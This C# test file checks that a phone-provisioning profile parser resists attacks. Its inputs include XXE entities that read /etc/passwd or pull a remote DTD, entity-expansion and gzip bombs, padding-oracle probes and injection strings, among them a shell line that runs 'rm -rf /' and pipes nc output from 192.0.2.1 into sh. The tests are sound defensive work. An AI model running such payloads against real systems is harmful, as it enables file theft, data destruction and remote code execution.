using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Spa.Configuration.Profiles;
using Spa.Marks;

namespace Spa.Common.Tests.Profiles;

/// <summary>Attacks P1 to P4 and P7. That work stays bounded is asserted by what was read, not by a clock.</summary>
public class ProfileAttackTests
{
    private const string Key = "SecretPhrase1234";
    private const string Good = "<flat-profile>\n <Resync_Periodic>86400+600</Resync_Periodic>\n <Proxy_1_>sip.example.net</Proxy_1_>\n</flat-profile>\n";
    private static readonly byte[] Salt = [0, 1, 2, 3, 4, 5, 6, 7];

    public static TheoryData<string> Declarations => new()
    {
        "<!DOCTYPE flat-profile>",
        "<!DOCTYPE flat-profile [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE flat-profile [<!ENTITY e SYSTEM \"http://192.0.2.1/x\">]>",
        "<!DOCTYPE flat-profile SYSTEM \"http://192.0.2.1/x.dtd\">",
        "<!DOCTYPE flat-profile [<!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\"> %p;]>",
        "<!DOCTYPE flat-profile [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY e \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
    };

    [Attack("P1", "P2")]
    [Theory]
    [MemberData(nameof(Declarations))]
    public void Document_type_is_refused_before_anything_in_it_counts(string declaration)
    {
        var (fault, work) = Refuse(Encoding.ASCII.GetBytes($"<?xml version=\"1.0\"?>\n{declaration}\n<flat-profile><GPP_A>&e;</GPP_A></flat-profile>"));
        Assert.Equal(new ProfileFault("corrupt file", "not well-formed XML: a DOCTYPE is not allowed, remove it", 2), fault);
        Assert.Equal(0, work.Elements);
    }

    [Attack("P1")]
    [Fact]
    public void Entity_without_a_document_type_is_refused()
    {
        var (fault, _) = Refuse("<flat-profile>\n<GPP_A>&e;</GPP_A></flat-profile>"u8.ToArray());
        Assert.Equal(new ProfileFault("corrupt file", "not well-formed XML inside <GPP_A>: an & that starts none of &amp; &lt; &gt; &quot; &apos; or a number; write &amp;", 2), fault);
    }

    [Attack("P2")]
    [Fact]
    public void Million_attributes_are_refused_at_a_limit_in_every_packing()
    {
        var tag = new StringBuilder("<flat-profile><GPP_A");
        for (var i = 0; tag.Length < 900_000; i++)
        {
            tag.Append(" a").Append(i).Append("=''");
        }

        var file = Encoding.ASCII.GetBytes(tag.Append("/></flat-profile>").ToString());
        var (asIs, asIsWork) = Refuse(file);
        Assert.Equal(new ProfileFault("profile too large", "more than 262144 bytes", null), asIs);
        Assert.Equal(0, asIsWork.Characters);

        var (packed, packedWork) = Refuse(ProfileGzip.Compress(file));
        Assert.Equal(new ProfileFault("profile too large", "a tag, a text or a run of comments of more than 131072 characters", 1), packed);
        Assert.InRange(packedWork.Characters, 131_072, 131_072 + 16_384);
    }

    [Attack("P2")]
    [Fact]
    public void More_attributes_than_allowed_are_refused_with_the_limit()
    {
        var attributes = string.Concat(Enumerable.Range(0, 65).Select(i => $" a{i}=''"));
        var (fault, _) = Refuse(Encoding.ASCII.GetBytes($"<flat-profile>\n\n<GPP_A{attributes}/></flat-profile>"));
        Assert.Equal(new ProfileFault("profile too large", "more than 64 attributes on one element", 3), fault);
    }

    [Attack("P2")]
    [Fact]
    public void Deep_nesting_is_refused_at_the_limit_of_depth()
    {
        var (fault, work) = Refuse(ProfileGzip.Compress(Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("<a>", 100_000)))));
        Assert.Equal(new ProfileFault("profile too large", "elements nested deeper than 32", 1), fault);
        Assert.Equal(33, work.Elements);
        Assert.InRange(work.Characters, 1, 8192);
    }

    [Attack("P2")]
    [Fact]
    public void Text_without_end_is_refused_at_a_limit_in_every_packing()
    {
        var file = new byte[40 * 1024 * 1024];
        Array.Fill(file, (byte)'x');
        "<flat-profile><GPP_A>"u8.CopyTo(file);
        var (asIs, asIsWork) = Refuse(file);
        Assert.Equal("more than 262144 bytes", asIs.Detail);
        Assert.Equal(0, asIsWork.Characters);

        var (packed, packedWork) = Refuse(Pack(file));
        Assert.Equal(new ProfileFault("profile too large", "more than 1048576 bytes after decompression", null), packed);
        Assert.Equal(1_048_577, packedWork.Inflated);

        var (within, withinWork) = Refuse(ProfileGzip.Compress(file.AsSpan(0, 1_000_000)));
        Assert.Equal("a tag, a text or a run of comments of more than 131072 characters", within.Detail);
        Assert.InRange(withinWork.Characters, 131_072, 131_072 + 16_384);
    }

    [Attack("P2")]
    [Fact]
    public void Too_many_elements_are_refused_with_the_limit()
    {
        var (fault, work) = Refuse(ProfileGzip.Compress(Encoding.ASCII.GetBytes("<flat-profile>" + string.Concat(Enumerable.Repeat("<GPP_A>1</GPP_A>\n", 50_000)) + "</flat-profile>")));
        Assert.Equal(new ProfileFault("profile too large", "more than 10000 elements", 10_000), fault);
        Assert.Equal(10_001, work.Elements);
    }

    [Attack("P3")]
    [Fact]
    public void Bomb_in_a_second_member_stops_at_the_limit()
    {
        var (fault, work) = Refuse([.. ProfileGzip.Compress("<flat-profile>"u8), .. Pack(new byte[20 * 1024 * 1024])]);
        Assert.Equal("more than 1048576 bytes after decompression", fault.Detail);
        Assert.Equal(1_048_577, work.Inflated);
    }

    [Attack("P3")]
    [Fact]
    public void Gzip_in_gzip_is_refused()
    {
        var (fault, _) = Refuse(ProfileGzip.Compress(ProfileGzip.Compress(Encoding.ASCII.GetBytes(Good))));
        Assert.Equal(new ProfileFault("corrupt file", "the gzip holds no XML", null), fault);
    }

    [Attack("P3")]
    [Fact]
    public void Second_profile_behind_the_first_is_refused()
    {
        var one = ProfileGzip.Compress(Encoding.ASCII.GetBytes(Good));
        var (fault, _) = Refuse([.. one, .. one]);
        Assert.Equal("corrupt file", fault.Err);
    }

    [Attack("P3")]
    [Fact]
    public void Gzip_cut_anywhere_never_reads_as_something_else()
    {
        var file = ProfileGzip.Compress(Encoding.ASCII.GetBytes(Good));
        Assert.True(Read(file, null, out var whole, out _, out _));
        for (var length = 0; length < file.Length; length++)
        {
            // Only the check sum and the last line feed may be missing without being noticed.
            if (Read(file[..length], null, out var content, out var fault, out _))
            {
                Assert.Equal([.. whole!.Assignments], content!.Assignments.AsEnumerable());
                Assert.InRange(length, file.Length - 10, file.Length);
            }
            else
            {
                Assert.Equal(length == 1 ? "unsupported profile format" : "corrupt file", fault!.Err);
            }
        }
    }

    [Attack("P4")]
    [Fact]
    public void Every_flipped_bit_of_a_fixed_file_is_refused_with_the_one_text()
    {
        // CBC proves nothing, so that none passes is a property of this file and these bits, not of the format.
        var file = ProfileCipher.Encrypt(Encoding.ASCII.GetBytes(Good), Key, KeyDigest.Md5, Salt);
        for (var bit = 8 * 8; bit < file.Length * 8; bit++)
        {
            file[bit / 8] ^= (byte)(1 << (bit % 8));
            Assert.False(Read(file, Key, out _, out var fault, out _), $"bit {bit}");
            Assert.Equal(WrongKey, fault);
            file[bit / 8] ^= (byte)(1 << (bit % 8));
        }

        Assert.True(Read(file, Key, out _, out _, out _));
    }

    [Attack("P4")]
    [Fact]
    public void Changed_header_is_no_encrypted_file()
    {
        var file = ProfileCipher.Encrypt(Encoding.ASCII.GetBytes(Good), Key, KeyDigest.Md5, Salt);
        file[7] = (byte)'-';
        Assert.False(Read(file, Key, out _, out var fault, out var work));
        Assert.Equal(new ProfileFault("corrupt file", "the rule names a key, the file is not encrypted", null), fault);
        Assert.Equal(0, work.Candidates);
    }

    [Attack("P4")]
    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(8)]
    [InlineData(16)]
    [InlineData(17)]
    [InlineData(31)]
    [InlineData(33)]
    public void Cut_file_is_refused_before_the_cipher_runs(int length)
    {
        var file = ProfileCipher.Encrypt(Encoding.ASCII.GetBytes(Good), Key, KeyDigest.Md5, Salt);
        Assert.False(Read(file[..length], Key, out _, out var fault, out var work));
        Assert.Equal("corrupt file", fault!.Err);
        Assert.Equal(0, work.Decrypted);
    }

    [Attack("P4")]
    [Fact]
    public void Good_and_bad_padding_cost_the_same_work_and_give_the_same_fault()
    {
        // The same text, cut, behind padding that is well made and behind padding that is not.
        var text = Good[..(Good.Length / 16 * 16 - 4)];
        var good = Seal([.. Encoding.ASCII.GetBytes(text), 4, 4, 4, 4]);
        Assert.False(Read(good, Key, out _, out var fault, out var expected));
        Assert.Equal(WrongKey, fault);
        Assert.Equal((6, 6L * (good.Length - 16), 3L), (expected.Candidates, expected.Decrypted, expected.Elements));
        foreach (byte[] padding in new byte[][] { [4, 4, 4, 5], [4, 4, 5, 4], [5, 4, 4, 4], [0, 0, 0, 0], [16, 16, 16, 16], [255, 255, 255, 255] })
        {
            Assert.False(Read(Seal([.. Encoding.ASCII.GetBytes(text), .. padding]), Key, out _, out fault, out var work));
            Assert.Equal(WrongKey, fault);
            Assert.Equal((expected.Candidates, expected.Decrypted, expected.Inflated), (work.Candidates, work.Decrypted, work.Inflated));
            if (padding[0] < 128) Assert.Equal((expected.Elements, expected.Characters + 4), (work.Elements, work.Characters));
        }
    }

    [Attack("P4")]
    [Fact]
    public void Last_byte_changed_to_every_value_gives_the_same_fault()
    {
        var file = ProfileCipher.Encrypt(Encoding.ASCII.GetBytes(Good), Key, KeyDigest.Md5, Salt);
        var right = file[^17];
        for (var value = 0; value < 256; value++)
        {
            file[^17] = (byte)value;
            if (value == right) continue;
            Assert.False(Read(file, Key, out _, out var fault, out var work));
            Assert.Equal((WrongKey, 6, 6L * (file.Length - 16)), (fault, work.Candidates, work.Decrypted));
        }
    }

    [Attack("P4")]
    [Fact]
    public void Wrong_keys_of_all_kinds_give_the_same_fault()
    {
        foreach (var one in JsonDocument.Parse(File.ReadAllBytes(Repository.Path("tests", "vectors", "provisioning", "encrypted.json"))).RootElement.GetProperty("cases").EnumerateArray())
        {
            if (one.GetProperty("id").GetString() is not ("enc-17" or "enc-18" or "enc-21" or "enc-26")) continue;
            Assert.False(Read(one.GetProperty("data").GetBytesFromBase64(), one.GetProperty("key").GetString(), out _, out var fault, out var work));
            Assert.Equal(WrongKey, fault);
            Assert.Equal(6, work.Candidates);
        }
    }

    [Attack("P7")]
    [Theory]
    [InlineData("`reboot`; rm -rf / && $(nc 192.0.2.1 7547) | sh")]
    [InlineData("$MA$MAU$(MA:0:1000000)$$")]
    [InlineData("%s%n\\x00\\r\\n' OR 1=1 --")]
    [InlineData("<script>alert(1)</script>")]
    public void Value_is_text_and_nothing_else(string value)
    {
        var file = ProfileWriter.Write([new ProfileEntry("Primary_NTP_Server", value)]);
        Assert.True(Read(file, null, out var content, out _, out _));
        Assert.Equal(value, Assert.Single(content!.Assignments).Text);
    }

    [Attack("P7")]
    [Theory]
    [InlineData("a&#13;&#10;Set-Cookie: x", "a Set-Cookie: x")]
    [InlineData("a\rb\nc\r\nd", "a b c d")]
    [InlineData("&#10;&#13;a&#10;", "a")]
    public void Line_ends_in_a_value_become_blanks(string written, string value)
    {
        Assert.True(Read(Encoding.ASCII.GetBytes($"<flat-profile><Host_Name>{written}</Host_Name></flat-profile>"), null, out var content, out _, out _));
        Assert.Equal(value, Assert.Single(content!.Assignments).Text);
    }

    [Attack("P7")]
    [Theory]
    [InlineData("a\0b")]
    [InlineData("a&#0;b")]
    [InlineData("a&#x1b;[2Jb")]
    [InlineData("a\u001bb")]
    [InlineData("a&#xFFFF;b")]
    public void Control_characters_make_the_file_corrupt(string written)
    {
        var (fault, _) = Refuse(Encoding.UTF8.GetBytes($"<flat-profile><Host_Name>{written}</Host_Name></flat-profile>"));
        Assert.Equal("corrupt file", fault.Err);
    }

    private static ProfileFault WrongKey => new("corrupt file", "no digest and key size gives a profile: the key is wrong or the file was changed", null);

    private static (ProfileFault Fault, ProfileWork Work) Refuse(byte[] file)
    {
        Assert.False(Read(file, null, out _, out var fault, out var work));
        return (fault!, work);
    }

    private static bool Read(byte[] file, string? key, out ProfileContent? content, out ProfileFault? fault, out ProfileWork work)
    {
        content = null;
        work = new ProfileWork();
        return ProfileFile.Open(file, key, ProfileLimits.Default, Names.Few, out var opened, out fault, work)
            && ProfileReader.Read(opened, ProfileLimits.Default, Names.Few, out content, out fault, work);
    }

    private static byte[] Seal(byte[] blocks)
    {
        var material = new byte[48];
        ProfileCipher.Derive(Key, KeyDigest.Md5, Salt, material);
        using var aes = Aes.Create();
        aes.SetKey(material.AsSpan(0, 32));
        return [.. "Salted__"u8, .. Salt, .. aes.EncryptCbc(blocks, material.AsSpan(32), PaddingMode.None)];
    }

    private static byte[] Pack(byte[] plain)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            gzip.Write(plain);
        }

        return packed.ToArray();
    }
}
